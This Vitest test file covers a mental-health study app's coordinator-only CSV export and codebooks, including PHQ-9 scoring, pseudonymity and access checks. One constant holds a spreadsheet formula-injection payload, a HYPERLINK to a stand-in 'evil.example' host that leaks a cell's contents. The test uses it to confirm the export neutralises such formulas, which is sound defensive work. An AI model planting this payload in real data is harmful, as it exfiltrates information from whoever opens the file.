/**
 * The research export (issue 7): a questionnaire's records as CSV and its codebook, for
 * coordinators only, read under row-level security, with server-computed scores and the case's
 * facts, pseudonymous by case id, and text that a spreadsheet would run made inert.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addMember } from '../../src/server/admin/accounts';
import { startTestApp, type TestApp } from '../helpers/app';
import { csvObjects, parseCsv } from '../helpers/csv';

let t: TestApp;
type Person = Awaited<ReturnType<TestApp['user']>>;
let patient: Person, other: Person, therapist: Person, coordinator: Person;

const UPSERT = { prefer: 'resolution=merge-duplicates, return=representation' };
const PHQ9_PRE = { item1: 2, item2: 2, item3: 2, item4: 2, item5: 2, item6: 2, item7: 2, item8: 1, item9: 1, item10: 'very' }; // 16
const PHQ9_POST = { item1: 1, item2: 1, item3: 1, item4: 0, item5: 0, item6: 1, item7: 0, item8: 0, item9: 0 }; // 4
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';

async function post(person: Person, collection: string, body: object) {
  const response = await t.api('POST', `/api/${collection}`, { body: { case_id: person.caseId, ...body }, token: person.token, headers: UPSERT });
  expect(response.status, JSON.stringify(response.body)).toBe(201);
}

/** A download as bytes and text, so the byte-order mark stays visible (Response.text() drops it). */
async function download(path: string, token?: string) {
  const response = await fetch(t.url + path, token ? { headers: { authorization: `Bearer ${token}` } } : {});
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  return { status: response.status, headers: response.headers, bytes, text, json: () => JSON.parse(text) as { error: string; message: string } };
}

beforeAll(async () => {
  t = await startTestApp();
  patient = await t.user({ flags: ['patient'] });
  other = await t.user({ flags: ['patient'] });
  therapist = await t.user({ flags: ['therapist'] });
  await addMember(t.database.db.pool, patient.caseId!, therapist.username, ['therapist']);
  coordinator = await t.user({ flags: ['coordinator'] });
  // Written out of order: the export orders by case, then screening, pre, post, fu1, fu2.
  await post(patient, 'phq9', { time_of_measurement: 'post', ...PHQ9_POST });
  await post(patient, 'phq9', { time_of_measurement: 'pre', ...PHQ9_PRE });
  await post(other, 'phq9', { time_of_measurement: 'screening', item1: 3, item2: 0 });
  await post(patient, 'comment', { time_of_measurement: 'post', comment: FORMULA });
  await post(other, 'demographics', { time_of_measurement: 'screening', internet_access: true, email: true, age: 30, gender: 'FEMALE', country_of_origin: 'سوريا، حلب', country_of_residence: 'Deutschland', past_treatment: ['psychotherapy', 'medication'], fled: false, loss: false });
  await t.database.db.pool.query('update app_public.cases set exclude_from_analysis = true where id = $1', [patient.caseId]);
});

afterAll(async () => {
  await t?.close();
});

describe('research data export', () => {
  it('gives a coordinator every record with server scores and case facts, ordered by case and time', async () => {
    const file = await download('/api/export/phq9.csv', coordinator.token);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="sanad-phq9-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(file.headers.get('cache-control')).toBe('no-store');
    expect([...file.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.text).toMatch(/^\uFEFFcase_id,time_of_measurement,created_at,updated_at,exclude_from_analysis,is_dropout,treatment,complete,total,band,subscale_phq2,flag_suicide_item,/);
    expect(file.text.split('\r\n')).toHaveLength(5); // header, three records, the final line end

    const rows = csvObjects(file.text);
    const expectedOrder = [patient.caseId!, other.caseId!].sort();
    expect(rows.map((r) => r.case_id)).toEqual(expectedOrder.flatMap((id) => (id === patient.caseId ? [id, id] : [id])));
    const mine = rows.filter((r) => r.case_id === patient.caseId);
    expect(mine.map((r) => r.time_of_measurement)).toEqual(['pre', 'post']);
    expect(mine[0]).toMatchObject({
      exclude_from_analysis: '1',
      is_dropout: '0',
      complete: '1',
      total: '16',
      band: 'moderately_severe',
      subscale_phq2: '4',
      flag_suicide_item: '1',
      flag_screen_positive: '1',
      diagnosis_major_depressive_syndrome: '1',
      diagnosis_other_depressive_syndrome: '0',
      item9: '1',
      item10: 'very',
    });
    expect(mine[0]!.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    expect(mine[1]).toMatchObject({ total: '4', band: 'minimal', flag_suicide_item: '0', item10: '' });
    // An unfinished record: no total, its flags known, its diagnoses undetermined, the case kept.
    expect(rows.find((r) => r.case_id === other.caseId)).toMatchObject({ exclude_from_analysis: '0', complete: '0', total: '', band: '', diagnosis_major_depressive_syndrome: '', item1: '3', item3: '' });
    // Item 9 and the total are missing: whether those flags are raised cannot be known, so they are empty, not 0.
    expect(rows.find((r) => r.case_id === other.caseId)).toMatchObject({ flag_suicide_item: '', flag_screen_positive: '', flag_phq2_positive: '1' });
  });

  it('is pseudonymous: no record id, submitter id or account names', async () => {
    const file = await download('/api/export/phq9.csv', coordinator.token);
    const { rows } = await t.database.db.pool.query<{ id: string; submitter_id: string }>('select id, submitter_id from app_public.phq9');
    for (const row of rows) {
      expect(file.text).not.toContain(row.id);
      expect(file.text).not.toContain(row.submitter_id);
    }
    for (const person of [patient, other]) {
      expect(file.text).not.toContain(person.id);
      expect(file.text).not.toContain(person.username);
    }
  });

  it('makes a formula in a text answer inert', async () => {
    const file = await download('/api/export/comment.csv', coordinator.token);
    expect(file.status).toBe(200);
    const [row] = csvObjects(file.text);
    expect(row!.comment).toBe(`'${FORMULA}`);
    expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
  });

  it('writes multi-selects as codes joined by ;, yes/no as 1/0 and Arabic text as it is', async () => {
    const [row] = csvObjects((await download('/api/export/demographics.csv', coordinator.token)).text);
    expect(row).toMatchObject({ case_id: other.caseId, past_treatment: 'psychotherapy;medication', fled: '0', internet_access: '1', age: '30', gender: 'FEMALE', country_of_origin: 'سوريا، حلب', flight_reason: '' });
  });

  it('gives a codebook in the chosen locale, the first configured one by default', async () => {
    const german = await download('/api/export/phq9/codebook.csv?locale=de', coordinator.token);
    expect(german.status).toBe(200);
    expect(german.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(german.headers.get('content-disposition')).toMatch(/^attachment; filename="sanad-phq9-codebook-de-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = csvObjects(german.text);
    const data = await download('/api/export/phq9.csv', coordinator.token);
    expect(rows.filter((r) => r.kind !== '').map((r) => r.variable)).toEqual(parseCsv(data.text.slice(1))[0]);
    expect(rows.find((r) => r.variable === 'item1')).toMatchObject({ kind: 'item', label: 'Item 1: Interesse oder Freude', min: '0', max: '3', source: 'phq9', source_version: expect.stringContaining('PHQ-9') });
    expect(rows.find((r) => r.variable === 'item1' && r.value === '0')).toMatchObject({ value_label: 'überhaupt nicht', kind: '' });
    const arabic = await download('/api/export/phq9/codebook.csv', coordinator.token);
    expect(csvObjects(arabic.text).find((r) => r.variable === 'item1')!.label).toBe('البند 1: الاهتمام أو المتعة');
  });
});

describe('who may export', () => {
  const paths = ['/api/export/phq9.csv', '/api/export/phq9/codebook.csv?locale=en'];

  it.each(paths)('%s: anonymous 401, therapist and patient 403, each with a message', async (path) => {
    const anonymous = await download(path);
    expect(anonymous.status).toBe(401);
    expect(anonymous.json()).toMatchObject({ error: 'sign_in_required', message: expect.stringContaining('coordinator') });
    for (const person of [therapist, patient]) {
      const refused = await download(path, person.token);
      expect(refused.status).toBe(403);
      expect(refused.headers.get('content-type')).toMatch(/application\/json/);
      expect(refused.json()).toMatchObject({ error: 'forbidden', message: expect.stringContaining('Only coordinators') });
    }
  });

  it('says which questionnaires exist when one is unknown, and which locales', async () => {
    for (const path of ['/api/export/nope.csv', '/api/export/nope/codebook.csv?locale=en', '/api/export/.csv']) {
      const missing = await download(path, coordinator.token);
      expect(missing.status).toBe(404);
      expect(missing.json()).toMatchObject({ error: 'unknown_questionnaire', message: expect.stringContaining('phq9') });
    }
    const badLocale = await download('/api/export/phq9/codebook.csv?locale=fr', coordinator.token);
    expect(badLocale.status).toBe(400);
    expect(badLocale.json()).toMatchObject({ error: 'locale_unsupported', message: expect.stringContaining('ar, de, en') });
  });
});
